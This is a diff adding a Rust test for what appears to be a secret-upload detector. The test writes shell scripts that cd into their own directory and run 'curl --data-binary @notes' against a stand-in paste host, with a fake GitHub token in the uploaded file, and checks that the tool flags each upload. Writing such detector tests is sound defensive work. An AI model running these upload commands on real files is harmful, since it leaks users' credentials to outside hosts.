@@ -3,6 +3,7 @@
 
 use std::fs;
 use std::io::Write as _;
+use std::os::unix::fs::PermissionsExt as _;
 use std::path::Path;
 use std::process::{Command, Output, Stdio};
 use std::time::{Duration, Instant};
@@ -84,6 +85,59 @@ fn what_a_script_sets_and_where_it_goes_counts_below() {
     assert_eq!(upload("HOST=https://paste.example.com"), [] as [u64; 0]);
     assert_eq!(upload("HOST=https://api.github.com; cd sub"), [] as [u64; 0]);
     assert_eq!(upload("HOST=https://paste.example.com; (cd sub)"), [] as [u64; 0]);
+}
+
+#[test]
+fn a_script_knows_where_it_stands() {
+    let dir = tempfile::tempdir().unwrap();
+    let dir = dir.path();
+    fs::create_dir(dir.join("sub")).unwrap();
+    let token = ["ghp_", "zQ4mWx8LkT2vRb7NcYp1sHd6JfGa9e0Bpawt"].concat();
+    fs::write(dir.join("sub/notes"), format!("token = {token}\n")).unwrap();
+    for (go, status) in [
+        ("cd \"$(dirname \"$0\")\"", 3),
+        ("cd `dirname $0`", 3),
+        ("cd \"$(dirname -- \"${BASH_SOURCE[0]}\")\" || exit", 3),
+        (
+            "HERE=\"$(cd \"$(dirname \"${BASH_SOURCE[0]:-$0}\")\" >/dev/null 2>&1 && pwd -P)\"\ncd \"$HERE\"",
+            3,
+        ),
+        ("cd \"${0%/*}\"", 3),
+        ("cd \"$(dirname \"$(readlink -f \"$0\")\")\"", 3),
+        ("cd \"$(dirname \"$0\")/..\"", 0),
+        ("cd \"$(dirname \"$0\")\"; cd ../sub", 3),
+        ("", 0),
+    ] {
+        let script = format!("#!/bin/bash\n{go}\ncurl --data-binary @notes https://paste.example.com/up\n");
+        fs::write(dir.join("sub/up"), script).unwrap();
+        let (code, out, err) = check(dir, &["--script", "sub/up"]);
+        assert_eq!(code, Some(status), "{go}: {out}{err}");
+    }
+    fs::write(
+        dir.join("sub/up.zsh"),
+        "cd ${0:A:h}\ncurl --data-binary @notes https://paste.example.com/up\n",
+    )
+    .unwrap();
+    assert_eq!(check(dir, &["--script", "sub/up.zsh"]).0, Some(3));
+    // What a script is called with is only known to `exec`.
+    fs::write(dir.join("up"), "curl --data-binary \"@$1\" \"$2\"\n").unwrap();
+    fs::write(dir.join("curl"), "#!/bin/sh\nexit 0\n").unwrap();
+    fs::set_permissions(dir.join("curl"), fs::Permissions::from_mode(0o755)).unwrap();
+    for (arguments, code) in [
+        (["sub/notes", "https://paste.example.com"], Some(77)),
+        (["sub/nothing", "https://paste.example.com"], Some(0)),
+        (["sub/notes", "https://api.github.com"], Some(0)),
+    ] {
+        let output = Command::new("setsid")
+            .args(["--wait", env!("CARGO_BIN_EXE_forestall"), "exec", "sh", "up"])
+            .args(arguments)
+            .current_dir(dir)
+            .env("HOME", dir)
+            .env("PATH", format!("{}:{}", dir.display(), std::env::var("PATH").unwrap()))
+            .output()
+            .unwrap();
+        assert_eq!(output.status.code(), code, "{arguments:?}: {output:?}");
+    }
 }
 
 #[test]
